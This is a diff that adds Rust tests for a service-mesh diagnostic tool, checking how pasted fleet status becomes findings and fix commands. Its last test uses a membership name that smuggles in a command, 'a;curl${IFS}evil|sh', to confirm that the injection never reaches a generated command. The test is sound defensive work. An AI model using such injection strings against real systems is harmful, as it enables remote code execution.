@@ -1,0 +1,161 @@
+//! What a report makes of several findings: one for each cause, causes first, names only where they are certain.
+#![allow(clippy::unwrap_used)]
+
+use meshmedic_rules::report::{Finding, Report, headline};
+use meshmedic_rules::time::Timestamp;
+use meshmedic_rules::{Input, Lang, Options, analyze};
+
+fn report_of(inputs: &[(&str, &str)], options: &Options) -> Report {
+    let inputs: Vec<Input> = inputs
+        .iter()
+        .map(|(source, text)| Input { source: (*source).to_owned(), bytes: text.as_bytes(), kind: None })
+        .collect();
+    analyze(&inputs, options, &mut |_, _| {})
+}
+
+fn report(text: &str) -> Report {
+    report_of(&[("paste", text)], &Options::default())
+}
+
+fn membership(name: &str, location: &str, condition: &str, state: &str) -> String {
+    format!(
+        "  projects/123456789012/locations/{location}/memberships/{name}:\n    servicemesh:\n      conditions:\n      - code: {condition}\n        severity: ERROR\n      controlPlaneManagement:\n        state: {state}\n    state:\n      updateTime: '2026-07-30T00:00:00Z'\n"
+    )
+}
+
+fn fleet(memberships: &[String]) -> String {
+    format!(
+        "membershipStates:\n{}name: projects/retail-prod/locations/global/features/servicemesh\n",
+        memberships.concat()
+    )
+}
+
+fn of<'r>(report: &'r Report, rule: &str) -> Vec<&'r Finding> {
+    report.findings.iter().filter(|finding| finding.rule == rule).collect()
+}
+
+#[test]
+fn each_membership_is_a_finding_of_its_own() {
+    let paste = fleet(&[
+        membership("shop-1", "us-central1", "CNI_INSTALLATION_FAILED", "FAILED_PRECONDITION"),
+        membership("shop-2", "europe-west1", "CNI_INSTALLATION_FAILED", "ACTIVE"),
+        membership("shop-3", "global", "VPCSC_GA_SUPPORTED", "FAILED_PRECONDITION"),
+    ]);
+    let report = report(&paste);
+    let names = |rule: &str| -> Vec<String> {
+        of(&report, rule).iter().map(|finding| finding.values["MEMBERSHIP"].clone()).collect()
+    };
+    assert_eq!(names("fleet/cni-installation-failed"), ["shop-1", "shop-2"]);
+    assert_eq!(names("control-plane/failed-precondition"), ["shop-1", "shop-3"]);
+    // What ails one membership explains nothing of another.
+    let explaining: Vec<bool> =
+        of(&report, "fleet/cni-installation-failed").iter().map(|finding| !finding.explains.is_empty()).collect();
+    assert_eq!(explaining, [true, false]);
+    let order: Vec<(&str, &str)> = report
+        .findings
+        .iter()
+        .map(|f| (f.rule.as_str(), f.values.get("MEMBERSHIP").map_or("", String::as_str)))
+        .collect();
+    let at = |rule: &str, name: &str| order.iter().position(|known| *known == (rule, name)).unwrap();
+    assert_eq!(at("control-plane/failed-precondition", "shop-1"), at("fleet/cni-installation-failed", "shop-1") + 1);
+}
+
+#[test]
+fn a_name_with_two_meanings_fills_only_its_own_findings() {
+    let paste = fleet(&[
+        membership("shop-1", "us-central1", "CNI_INSTALLATION_FAILED", "STALLED"),
+        membership("shop-2", "europe-west1", "VPCSC_GA_SUPPORTED", "ACTIVE"),
+    ]);
+    let report = report(&paste);
+    assert!(
+        !report.values.contains_key("MEMBERSHIP") && !report.values.contains_key("LOCATION"),
+        "{:?}",
+        report.values
+    );
+    assert_eq!(report.values["PROJECT_ID"], "retail-prod");
+    let finding = of(&report, "control-plane/stalled")[0];
+    assert_eq!(finding.values["LOCATION"], "us-central1");
+}
+
+#[test]
+fn the_location_global_of_a_membership_is_no_clusters_location() {
+    let report = report(&fleet(&[membership("shop-1", "global", "CNI_INSTALLATION_FAILED", "STALLED")]));
+    assert_eq!(report.values["MEMBERSHIP"], "shop-1");
+    assert!(report.findings.iter().all(|finding| !finding.values.contains_key("LOCATION")));
+}
+
+#[test]
+fn what_was_set_fills_what_the_paste_does_not_say_and_nothing_else() {
+    let set =
+        [("PROJECT_ID", "mine"), ("CLUSTER_NAME", "c-1")].map(|(name, value)| (name.to_owned(), value.to_owned()));
+    let options = Options { set: set.into_iter().collect(), ..Options::default() };
+    let paste =
+        fleet(&[membership("shop-1", "us-central1", "NODEPOOL_WORKLOAD_IDENTITY_FEDERATION_REQUIRED", "ACTIVE")]);
+    let report = report_of(&[("paste", &paste)], &options);
+    let finding = of(&report, "fleet/nodepool-workload-identity-federation-required")[0];
+    let commands: Vec<&str> = finding.fix.iter().filter_map(|step| step.command.as_deref()).collect();
+    assert!(
+        commands[0].contains("c-1") && commands[0].contains("retail-prod") && !commands[0].contains("mine"),
+        "{commands:?}"
+    );
+    assert!(finding.fix[1].missing.contains(&"NODE_POOL".to_owned()), "{:?}", finding.fix[1]);
+}
+
+#[test]
+fn names_learned_in_one_input_fill_the_commands_of_another() {
+    let describe = "$ kubectl -n shop describe rs cart-1\n";
+    let error = "no endpoints available for service \"istiod\"";
+    let report = report_of(&[("a", describe), ("b", error)], &Options::default());
+    let finding = of(&report, "webhook/istiod-no-endpoints")[0];
+    assert_eq!(finding.evidence[0].source, "b");
+    assert!(finding.fix.iter().any(|step| step.command.as_deref().is_some_and(|command| command.contains("-n shop"))));
+}
+
+#[test]
+fn the_order_of_the_inputs_does_not_change_what_is_found() {
+    let one = fleet(&[membership("shop-1", "us-central1", "CNI_INSTALLATION_FAILED", "STALLED")]);
+    let two = "no endpoints available for service \"istiod\"";
+    let rules = |report: Report| {
+        let mut rules: Vec<String> = report.findings.into_iter().map(|finding| finding.rule).collect();
+        rules.sort();
+        rules
+    };
+    let forth = rules(report_of(&[("a", &one), ("b", two)], &Options::default()));
+    assert_eq!(forth, rules(report_of(&[("b", two), ("a", &one)], &Options::default())));
+}
+
+#[test]
+fn provisioning_is_a_fault_only_after_ten_minutes() {
+    let paste = fleet(&[membership("shop-1", "us-central1", "VPCSC_GA_SUPPORTED", "PROVISIONING")]);
+    for (now, level) in [("2026-07-30T00:10:00Z", "note"), ("2026-07-30T00:10:01Z", "problem")] {
+        let options = Options { now: Timestamp::parse(now), ..Options::default() };
+        let report = report_of(&[("paste", &paste)], &options);
+        let found = serde_json::to_value(of(&report, "control-plane/provisioning")[0].level).unwrap();
+        assert_eq!(found, level, "{now}");
+    }
+}
+
+#[test]
+fn a_healthy_mesh_has_passed_checks_and_no_headline() {
+    let report = report(&fleet(&[membership("shop-1", "us-central1", "VPCSC_GA_SUPPORTED", "ACTIVE")]));
+    assert!(report.passed.iter().any(|passed| passed.text.contains("ACTIVE")), "{:?}", report.passed);
+    assert_eq!(headline(&report, Lang::En), "No known problem in what was pasted.");
+}
+
+#[test]
+fn unknown_text_says_what_to_paste_next() {
+    let report = report("hello, it does not work");
+    assert_eq!(report.artifacts[0].kind, "text");
+    assert!(report.findings.is_empty());
+    assert_eq!(report.not_checked[0].needs, "mesh-describe");
+    assert_eq!(report.not_checked.len(), report.tool.rules);
+}
+
+#[test]
+fn a_hostile_name_reaches_no_command() {
+    let paste = fleet(&[membership("a;curl${IFS}evil|sh", "us-central1", "CNI_INSTALLATION_FAILED", "STALLED")]);
+    let report = report(&paste);
+    for step in report.findings.iter().flat_map(|finding| finding.fix.iter().chain(&finding.confirm)) {
+        assert!(!step.command.as_deref().unwrap_or("").contains("evil"), "{step:?}");
+    }
+}
